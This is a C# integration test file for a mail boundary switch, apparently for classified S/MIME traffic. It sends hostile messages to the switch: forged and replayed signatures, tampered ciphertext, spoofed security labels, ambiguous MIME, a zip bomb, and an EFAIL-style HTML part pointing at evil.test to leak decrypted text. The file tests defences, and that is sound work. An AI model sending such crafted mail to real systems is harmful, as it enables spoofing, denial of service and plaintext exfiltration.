using System.Collections.Concurrent;
using System.Diagnostics;
using System.Globalization;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using MilSwitch.Domain.Delivery;
using MilSwitch.Domain.Messages;
using MilSwitch.Integration.Boundaries;
using MilSwitch.Labels;
using MilSwitch.Labels.Carriers;
using MilSwitch.Smime.Cms.Enveloped;
using MilSwitch.Smime.Headers;
using MilSwitch.Smime.Making;
using MilSwitch.Smime.Verdicts;
using MilSwitch.Testing;
using Xunit.Abstractions;

namespace MilSwitch.Integration;

/// <summary>What attackers send to a boundary of a running switch: it ends held or refused, with the right reason, and nobody outside learns it.</summary>
public sealed partial class HostileMailTests(ITestOutputHelper output) : FieldTest
{
    private const int Sessions = 8;
    private const string Checks = "checks: [structure, attachments]";

    // What each is, and where it ends: a reply of SMTP, or why it is held.
    private const string Unbelieved = "verify: its signature is not to be believed: ";
    private const string ReplayedLater = "sound, and replayed later";
    private const string Returned = "Returned 554 5.7.1";
    private const string Closed = "decrypt: it is encrypted for this boundary and is not opened";

    [Fact]
    [Trait("Threat", "C2")]
    [Trait("Threat", "C3")]
    [Trait("Threat", "C8")]
    [Trait("Threat", "C9")]
    [Trait("Threat", "C10")]
    [Trait("Threat", "C11")]
    [Trait("Threat", "C12")]
    [Trait("Threat", "M1")]
    [Trait("Threat", "M2")]
    public async Task Every_attack_ends_with_its_reason_and_none_arrives()
    {
        using var border = new Border(Workspace.Folder);
        using var foreign = new Workspace("stranger");
        using var stranger = new Border(foreign.Folder);
        var (blue, red) = (StartSink(), StartSink());
        var milswitch = await StartSwitchAsync(Setup(border, blue, red));
        var attacks = await AttacksAsync(border, stranger);
        var answers = new List<(Attack Attack, DialogueReply Reply)>();
        await using (var client = await SmtpDialogue.ConnectAsync(milswitch.Port))
        {
            foreach (var attack in attacks)
            {
                answers.Add((attack, await client.MailAsync(Border.Sender, [$"<{attack.To}> NOTIFY=SUCCESS,FAILURE,DELAY"], HostileMail.Stuff(attack.Text), "RET=FULL" + attack.Parameters)));
                // Which of two is the first to cross is the first only when the other comes later.
                if (attack.Name is ReplayedLater) await StoreBook.RestsAsync(milswitch, Soon);
            }
        }

        await StoreBook.RestsAsync(milswitch, Soon);
        var held = await HeldAsync(milswitch, 1_000);
        await RejectAsync(milswitch, held.Keys);
        await StoreBook.RestsAsync(milswitch, Soon);
        Assert.Equal(0, await milswitch.TerminateAsync());
        await using var book = await StoreBook.OpenAsync(milswitch.Setup.DataFolder);
        var wrong = new List<string>();
        var sent = new Dictionary<string, string>();
        foreach (var (attack, reply) in answers)
        {
            var message = book.All.FirstOrDefault(m => reply.Lines.Any(l => l.Contains(m.Id.ToString(), StringComparison.Ordinal)));
            if (message is not null) sent.Add(message.Id.ToString(), attack.Text);
            var end = message is null ? reply.ToString()
                : held.TryGetValue(message.Id.ToString(), out var because) ? because
                : message.Recipients[0] is { State: RecipientState.Returned } returned ? $"{returned.State} {returned.Reply}"
                : string.Join(' ', book.Copies[message.Id].Select(c => $"{c.Recipients[0].State} {c.Envelope.Precedence}"));
            if (!end.StartsWith(attack.End, StringComparison.Ordinal)) wrong.Add($"{attack.Name}: {end}");
        }

        Assert.Empty(wrong);
        var arrived = blue.Transactions.Where(t => t.Accepted).Select(Text).ToArray();
        Assert.Equal(attacks.Count(a => a.End.StartsWith("Delivered", StringComparison.Ordinal)), arrived.Length);
        Assert.Equal(sent.Keys.Where(id => held.ContainsKey(id)).Count() + attacks.Count(a => a.End is Returned), AssertNothingIsTold(red, sent.GetValueOrDefault));
    }

    [Fact]
    [Trait("Threat", "C4")]
    [Trait("Threat", "C6")]
    [Trait("Threat", "C8")]
    [Trait("Threat", "C11")]
    [Trait("Threat", "M1")]
    [Trait("Threat", "M2")]
    public async Task Twenty_thousand_hostile_messages_leave_nothing_behind_and_none_is_trusted()
    {
        var count = int.Parse(Environment.GetEnvironmentVariable("MILSWITCH_HOSTILE") ?? "20000", CultureInfo.InvariantCulture);
        using var border = new Border(Workspace.Folder);
        using var foreign = new Workspace("stranger");
        using var stranger = new Border(foreign.Folder);
        var (blue, red) = (StartSink(), StartSink());
        var milswitch = await StartSwitchAsync(Setup(border, blue, red) with
        {
            // 256 MiB for all objects: whoever keeps what a message made it allocate ends here.
            Environment = new Dictionary<string, string> { ["DOTNET_GCHeapHardLimit"] = "0x10000000" },
        });
        var process = milswitch.Id;
        var others = new[] { "rfc4134", "comm-central", "header-protection", "mail", "dsn" }.SelectMany(f => SharedVectors.Files(f, "*.eml", output)).Select(SharedVectors.ReadMail);
        var hostile = await HostileMail.MakeAsync(border, stranger, others);

        var watch = Stopwatch.StartNew();
        var next = 0;
        var numbers = new ConcurrentDictionary<string, int>();
        var codes = new ConcurrentDictionary<int, int>();
        await Task.WhenAll(Enumerable.Range(0, Sessions).Select(_ => Task.Run(SendAsync)));
        var sent = watch.Elapsed;
        await StoreBook.RestsAsync(milswitch, TimeSpan.FromMinutes(2));
        // Of all kinds: a person sends them back.
        var held = (await HeldAsync(milswitch, int.MaxValue)).Keys.Where((_, i) => i % 10 is 0).ToArray();
        await RejectAsync(milswitch, held);
        await StoreBook.RestsAsync(milswitch, TimeSpan.FromMinutes(2));
        output.WriteLine($"{count} sent in {sent.TotalSeconds:0} s, at rest after {watch.Elapsed.TotalSeconds:0} s; {string.Join(", ", codes.OrderBy(c => c.Key).Select(c => $"{c.Key}: {c.Value}"))}; resident {milswitch.ResidentOctets >> 20} MiB");
        Assert.Equal((process, true), (milswitch.Id, milswitch.IsRunning));
        Assert.InRange(milswitch.ResidentOctets, 0, 700L << 20);
        Assert.DoesNotContain(milswitch.Errors, e => e.Contains("failed inside the switch", StringComparison.Ordinal));
        Assert.Equal(0, await milswitch.TerminateAsync());

        await using var book = await StoreBook.OpenAsync(milswitch.Setup.DataFolder);
        var came = book.Came.ToArray();
        var states = book.All.SelectMany(m => m.Recipients).GroupBy(r => r.State).ToDictionary(g => g.Key, g => g.Count());
        output.WriteLine(string.Join(", ", states.Select(s => $"{s.Key}: {s.Value}")));
        output.WriteLine(string.Join("\n", came.Where(m => m.HeldBecause is not null).GroupBy(m => string.Join(' ', m.HeldBecause!.Split(' ').Take(9))).OrderByDescending(g => g.Count()).Take(60).Select(g => $"{g.Count()} {g.Key}")));
        Assert.InRange(came.Length, codes.GetValueOrDefault(250), codes.GetValueOrDefault(250) + codes.GetValueOrDefault(0));
        Assert.DoesNotContain(states.Keys, s => s is RecipientState.Queued or RecipientState.Armed);
        Assert.All(came, m => Assert.True(m.State is MessageState.Held or MessageState.Done, $"{m.Id} is {m.State}"));

        // What crossed is what alice signed, word for word, and at no higher level than she asked for.
        var crossed = book.All.Where(m => m.Envelope.Domain is Border.Blue).ToArray();
        var arrived = blue.Transactions.Where(t => t.Accepted).ToArray();
        Assert.Equal(crossed.Count(m => m.Recipients.Any(r => r.State is RecipientState.Delivered)), arrived.Length);
        Assert.NotEmpty(arrived);
        Assert.All(arrived, t => AssertSound(Text(t), hostile));
        Assert.InRange(AssertNothingIsTold(red, id => numbers.TryGetValue(id, out var number) ? Unstuffed(hostile[number].Content) : null), held.Length / 2, int.MaxValue);
        Assert.Contains(RecipientState.Returned, states.Keys);

        async Task SendAsync()
        {
            SmtpDialogue? client = null;
            while (Interlocked.Increment(ref next) is var number && number <= count)
            {
                var mail = hostile[number];
                try
                {
                    client ??= await SmtpDialogue.ConnectAsync(milswitch.Port);
                    var reply = await client.MailAsync(mail.From, mail.To, mail.Content, mail.Parameters);
                    codes.AddOrUpdate(reply.Code, 1, static (_, n) => n + 1);
                    if (Id().Match(string.Join(' ', reply.Lines)) is { Success: true, Value: var id }) numbers.TryAdd(id, number);
                    // Some of it costs the connection.
                    if (reply.Code is not (0 or 421) && (await client.SayAsync("RSET")).Code is 250) continue;
                }
                catch (Exception fault) when (fault is IOException or SocketException)
                {
                    codes.AddOrUpdate(0, 1, static (_, n) => n + 1);
                }

                if (client is not null) await client.DisposeAsync();
                client = null;
            }

            if (client is not null) await client.DisposeAsync();
        }
    }

    private SwitchSetup Setup(Border border, SinkServer blue, SinkServer red) => new()
    {
        DataFolder = Workspace["data"], Listener = [$"domain: {Border.Red}"],
        Routes = [new RouteSetup("blue.test", blue.NextHop) { Domain = Border.Blue }, new RouteSetup("*", red.NextHop) { Domain = Border.Red }],
        Extra = QuickRetries + border.Keys + border.Sections(encrypts: false, "    " + Checks, returns: true) + """
            checks:
              - { name: structure, type: structure, media-types: [text/*, multipart/*, message/*, application/*] }
              - { name: attachments, type: attachments }
            rates: { flash-per-originator-and-minute: 0 }
            reports: { per-originator-and-hour: 100000 }
            logging: { level: warning }

            """,
    };

    // Signed by the domain over exactly one text that alice wrote.
    private static void AssertSound(string text, HostileMail hostile)
    {
        var at = text.IndexOf("boundary=\"", StringComparison.Ordinal) + 10;
        var boundary = "--" + text[at..text.IndexOf('"', at)];
        var start = text.IndexOf("\r\n" + boundary + "\r\n", StringComparison.Ordinal) + boundary.Length + 4;
        var part = text[start..text.IndexOf("\r\n" + boundary, start, StringComparison.Ordinal)] + "\r\n";
        var body = part[(part.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4)..];
        Assert.Contains(hostile.MayArrive, b => b == body || b + "\r\n" == body);
        if (hostile.Bare.Any(b => b == body || b + "\r\n" == body))
        {
            Assert.Contains("alice@red.test", part, StringComparison.Ordinal);
        }
        else
        {
            Assert.Contains("From: Alice <alice@red.test>\r\n", part, StringComparison.Ordinal);
            Assert.Contains($"Subject: order {body[HostileMail.Secret.Length..^3].TrimEnd('.', '\r', '\n')}", part, StringComparison.Ordinal);
        }

        Assert.Contains("SIO-Label:", text, StringComparison.Ordinal);
        Assert.DoesNotContain("X-MilSwitch-Released", text, StringComparison.Ordinal);
    }

    // All reports on what did not cross are one report, whatever was wrong; and they return what their originator sent, and nothing else.
    private int AssertNothingIsTold(SinkServer red, Func<string, string?> sent)
    {
        var reports = red.Transactions.Where(t => t.Accepted && t.Mail.Contains("<>", StringComparison.Ordinal)).Select(t => ToldReport.Read(Encoding.Latin1.GetString(t.Content.Span))).ToArray();
        output.WriteLine($"{reports.Length} reports");
        foreach (var report in reports)
        {
            // Nobody heard of it where the connection broke before the answer.
            if (sent(report.About) is { } original) Assert.StartsWith(report.Returned.TrimEnd(), original, StringComparison.Ordinal);
        }

        string[] words = [.. reports.Select(r => r.Words).Distinct()];
        output.WriteLine(string.Join("\n\n", words));
        // What a policy sends back, and what a person does.
        Assert.Equal(2, words.Length);
        Assert.Contains(words, w => w.Contains(": 554 5.7.1 not permitted by security policy\r\n", StringComparison.Ordinal));
        Assert.Single(words.Select(w => w.Replace("rejected on review", "not permitted by security policy", StringComparison.Ordinal)).Distinct());
        string[] reasons = [.. Enum.GetValues<Reason>().Select(r => r.Text())];
        foreach (var word in (string[])
            [.. reasons, "dawn", "blue", Border.Policy, "ALFA", "COALITION", "RESTRICTED", "SECRET", "UNCLASSIFIED", "clearance", "label", "classification", Border.Gateway, Border.Signing, "encrypt", "signature", "CBC", "checks", "bob", "general@", "127.0.0.1"])
            Assert.All(words, w => Assert.DoesNotContain(word, w, StringComparison.OrdinalIgnoreCase));
        return reports.Length;
    }

    private static string Unstuffed(byte[] content)
    {
        var text = Encoding.Latin1.GetString(content).Replace("\r\n.", "\r\n", StringComparison.Ordinal);
        return text.StartsWith('.') ? text[1..] : text;
    }

    /// <summary>Ids with their reasons, of at most so many.</summary>
    private static async Task<Dictionary<string, string>> HeldAsync(SwitchProcess node, int most)
    {
        using var client = Operator(node);
        var held = new Dictionary<string, string>();
        for (var after = ""; after is not null && held.Count < most;)
        {
            using var page = JsonDocument.Parse(await client.GetStringAsync($"http://localhost/api/v1/queue?state=held&limit=1000{after}"));
            // Reports on what arrived have no way back here: they are nobody's attack.
            foreach (var message in page.RootElement.GetProperty("items").EnumerateArray().Where(m => m.GetProperty("sender").GetString()!.Contains('@', StringComparison.Ordinal)))
                held.Add(message.GetProperty("id").GetString()!, message.GetProperty("heldBecause").GetString()!);
            after = page.RootElement.GetProperty("next").GetString() is { } next ? "&after=" + next : null;
        }

        return held;
    }

    // Over the node's own socket, as its administrator.
    private static HttpClient Operator(SwitchProcess node) => new(new SocketsHttpHandler
    {
        ConnectCallback = async (_, cancellationToken) =>
        {
            var socket = new Socket(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
            await socket.ConnectAsync(new UnixDomainSocketEndPoint(Path.Combine(node.Setup.DataFolder, "admin.sock")), cancellationToken);
            return new NetworkStream(socket, ownsSocket: true);
        },
    });

    private static async Task RejectAsync(SwitchProcess node, IEnumerable<string> ids)
    {
        using var client = Operator(node);
        await Parallel.ForEachAsync(ids, new ParallelOptions { MaxDegreeOfParallelism = Sessions }, async (id, cancellationToken) =>
        {
            using var order = new StringContent("{\"reason\":\"an attack\"}", Encoding.UTF8, "application/json");
            using var answer = await client.PostAsync($"http://localhost/api/v1/holding/{id}/reject", order, cancellationToken);
            Assert.True(answer.IsSuccessStatusCode, await answer.Content.ReadAsStringAsync(cancellationToken));
        });
    }

    private static async Task<IReadOnlyList<Attack>> AttacksAsync(Border border, Border stranger)
    {
        var number = 0;
        var (sign, seal, cbc) = (border.Signature(), border.Encryption(), border.Encryption(ContentCipherChoice.Aes256Cbc));
        var mallory = border.Signature(border.Signer("mallory", "mallory@red.test"));
        var eve = border.Signature(border.Signer("eve", "eve@evil.test"));
        var nobody = border.Signature(border.Signer("nobody", null));
        var signed = await SignedAsync();
        var (gcm, closed) = (await SealedAsync(sign), Latin(await MessageProtector.EncryptAsync(Plain(), cbc)));
        var replayed = Latin(await MessageProtector.SignAsync(Plain(), sign with { HeaderProtection = ProtectionScheme.None }));
        return
        [
            new("sound", await SignedAsync(), "Delivered Routine"),
            new("sound, encrypted", gcm, "Delivered Routine"),
            new(ReplayedLater, replayed, "Delivered Routine"),
            new("replayed under another Message-ID", Once(replayed, "Message-ID: <", "Message-ID: <again."), "Duplicate"),
            new("level forged by the client", await SignedAsync("MMHS-Primary-Precedence: 0 (deferred)\r\n"), "Delivered Deferred") { Parameters = " MT-PRIORITY=6" },

            new("unsigned", Latin(new(Plain())), "verify: nobody signed it, and this boundary asks for a signature"),
            new("content changed", Once(signed, "dawn", "dusk"), Unbelieved + "DIGEST-MISMATCH"),
            new("signed by another in the domain", Latin(await MessageProtector.SignAsync(Plain(), mallory)), Unbelieved + "SIGNER-MISMATCH"),
            new("signed by nobody by name", Latin(await MessageProtector.SignAsync(Plain(), nobody)), Unbelieved + "NO-ADDRESS"),
            new("signed under another authority", Latin(await MessageProtector.SignAsync(Plain(), stranger.Signature())), Unbelieved),
            new("display name of a general", Latin(await MessageProtector.SignAsync(Plain(from: "\"general@red.test\" <" + Border.Sender + ">"), sign)), Unbelieved + "DISPLAY-NAME-SPOOF"),
            new("a foreign author who signs well", Latin(await MessageProtector.SignAsync(Plain(from: "eve@evil.test"), eve)), "headers: "),
            new("two authors", "From: general@red.test\r\n" + signed, "headers: the outer From"),
            new("signature over a part", Mixed(signed), Unbelieved + "PARTIAL-COVERAGE"),

            new("ciphertext changed (GCM)", Changed(gcm), Closed),
            new("ciphertext changed (CBC)", Changed(closed), Closed),
            new("ciphertext without a signature inside (CBC)", closed, Closed),
            new("for somebody else", Latin(await MessageProtector.EncryptAsync(Plain(), stranger.Encryption())), "decrypt: it is encrypted, and not for this boundary"),
            new("ciphertext among parts that send it away", Mixed(gcm), "verify: nobody signed it"),
            new("signature stripped, then encrypted", Latin(await MessageProtector.EncryptAsync(Plain(), seal)), "verify: nobody signed it"),
            new("another's signature inside", await SealedAsync(mallory), Unbelieved + "SIGNER-MISMATCH"),

            new("without a label", Latin(await MessageProtector.SignAsync(Plain(), border.Signature(classification: null))), "label: "),
            new("label outside of the signature", Latin(await MessageProtector.SignAsync(Plain(), border.Signature(classification: null) with { HeaderProtection = ProtectionScheme.None })).Insert(0, "SIO-Label: marking=\"RESTRICTED\"; type=\":ess\"; label=\"MQ==\"\r\n"), "label: "),
            new("label above the clearance", Latin(await MessageProtector.SignAsync(Plain(), border.Signature(classification: 4))), Returned),
            new("label above the clearance, encrypted", await SealedAsync(border.Signature(classification: 4)), Returned),
            new("label of an unknown classification", Latin(await MessageProtector.SignAsync(Plain(), border.Signature(classification: 77))), "label: "),
            new("label swapped outside", $"{SioLabel.FieldName}: {SioLabel.Of(new SecurityLabel { Policy = Border.Policy, Classification = 1 }).Format()}\r\n{await SignedAsync()}", "label: "),

            new("From changed outside", Once(await SignedAsync(), "alice@red.test>", "eve@red.test>"), "headers: the outer From"),
            new("To changed outside", Once(await SignedAsync(), "To: bob@blue.test", "To: eve@blue.test"), "headers: the outer To"),
            new("Subject changed outside", Once(await SignedAsync(), "Subject: order", "Subject: retreat"), "headers: the outer Subject"),
            new("level forged outside", Once(await SignedAsync("MMHS-Primary-Precedence: 1 (routine)\r\n"), "1 (routine)", "5 (override)"), "headers: the outer MMHS-Primary-Precedence"),
            new("forwarded on the sly", await SignedAsync(), "headers: the protected header does not name recipient 1") { To = "general@blue.test" },

            new("two types", "Content-Type: text/html\r\n" + signed, "parse: "),
            new("unknown encoding", Once(Latin(new(Plain())), "Content-Type: text/plain", "Content-Transfer-Encoding: base65\r\nContent-Type: text/plain"), "parse: "),
            new("boundary that can be read in two ways", $"From: {Border.Sender}\r\nTo: {Border.Recipient}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed (; boundary=b); boundary=a\r\n\r\n--a\r\n\r\none\r\n--a--\r\n", "parse: "),
            new("an object without end", $"From: {Border.Sender}\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                + Convert.ToBase64String([.. Enumerable.Repeat((byte[])[0x30, 0x80], 20_000).SelectMany(b => b)], Base64FormattingOptions.InsertLineBreaks) + "\r\n", "parse: "),

            new("zip bomb", Latin(await MessageProtector.SignAsync(Zipped(), sign)), "checks: "),
            new("parts without end", $"From: {Border.Sender}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" + string.Concat(Enumerable.Repeat("--b\r\n\r\nx\r\n", 3_000)), "55"),
            new("nesting without end", $"From: {Border.Sender}\r\nMIME-Version: 1.0\r\n" + string.Concat(Enumerable.Range(0, 400).Select(i => $"Content-Type: multipart/mixed; boundary=b{i}\r\n\r\n--b{i}\r\n")), "55"),
            new("fields without end", string.Concat(Enumerable.Range(0, 2_000).Select(i => $"X-{i}: y\r\n")) + signed, "55"),
        ];

        byte[] Plain(string fields = "", string from = "Alice <" + Border.Sender + ">") => Border.Compose($"order {++number}", $"{HostileMail.Secret}{number:000}.\r\n", fields, from);

        async Task<string> SignedAsync(string fields = "") => Latin(await MessageProtector.SignAsync(Plain(fields), sign));

        async Task<string> SealedAsync(SignatureSettings signature) => Latin(await MessageProtector.SignAndEncryptAsync(Plain(), signature, seal));
    }

    private static byte[] Zipped() => Encoding.ASCII.GetBytes(
        $"From: Alice <{Border.Sender}>\r\nTo: {Border.Recipient}\r\nDate: Fri, 27 Nov 2026 10:00:00 +0000\r\nMessage-ID: <zip@red.test>\r\nSubject: archive\r\nMIME-Version: 1.0\r\n"
        + $"Content-Type: application/zip; name=a.zip\r\nContent-Transfer-Encoding: base64\r\n\r\n{HostileMail.Bombed}\r\n");

    private static string Mixed(string text)
    {
        var end = text.IndexOf("MIME-Version:", StringComparison.Ordinal);
        return $"{text[..end]}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/?\r\n--m\r\n{text[end..].Replace("MIME-Version: 1.0\r\n", "", StringComparison.Ordinal)}\r\n--m--\r\n";
    }

    private static string Latin(System.Buffers.ReadOnlySequence<byte> octets) => Encoding.Latin1.GetString(octets);

    private static string Once(string text, string before, string after)
    {
        var at = text.IndexOf(before, StringComparison.Ordinal);
        Assert.True(at >= 0, before);
        return text[..at] + after + text[(at + before.Length)..];
    }

    // A letter of the ciphertext, well before its end.
    private static string Changed(string text)
    {
        var at = text.LastIndexOf("\r\n", text.Length - 100, StringComparison.Ordinal) - 5;
        return text[..at] + (text[at] is 'A' ? 'B' : 'A') + text[(at + 1)..];
    }

    [GeneratedRegex("[0-9A-HJKMNP-TV-Z]{13}", RegexOptions.CultureInvariant)]
    private static partial Regex Id();

    /// <param name="Name">For people.</param>
    /// <param name="Text">Of the message.</param>
    /// <param name="End">Beginning of: why it is held, the reply, or state and level of what was released.</param>
    private sealed record Attack(string Name, string Text, string End)
    {
        public string To { get; init; } = Border.Recipient;

        public string Parameters { get; init; } = "";
    }
}
